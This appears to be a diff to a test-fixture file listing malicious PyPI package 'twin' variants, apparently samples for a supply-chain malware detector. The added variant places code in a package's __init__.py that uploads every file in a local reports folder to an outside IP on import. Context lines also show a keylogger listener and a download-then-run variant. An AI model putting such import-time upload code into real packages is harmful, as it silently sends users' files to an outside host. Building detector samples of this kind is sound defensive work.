@@ -795,6 +795,13 @@ keyboard.Listener(on_press=on_press).start()
 
 
 export const PAYLOAD_TWINS: readonly PypiVariant[] = [
+  v('twin-upload-runtime-named-file', 'collect-and-send', '', {
+    'pkgx/__init__.py': py`import glob, os, requests
+for name in glob.glob(os.path.join(os.getcwd(), 'reports', '*')):
+    with open(name, 'rb') as fh:
+        requests.post('https://198.51.100.30/upload', files={'f': fh})
+`,
+  }),
   v('twin-codegen-service-client-runtime', 'download-then-run', '', {
     'pkgx/backend.py': py`import requests
 
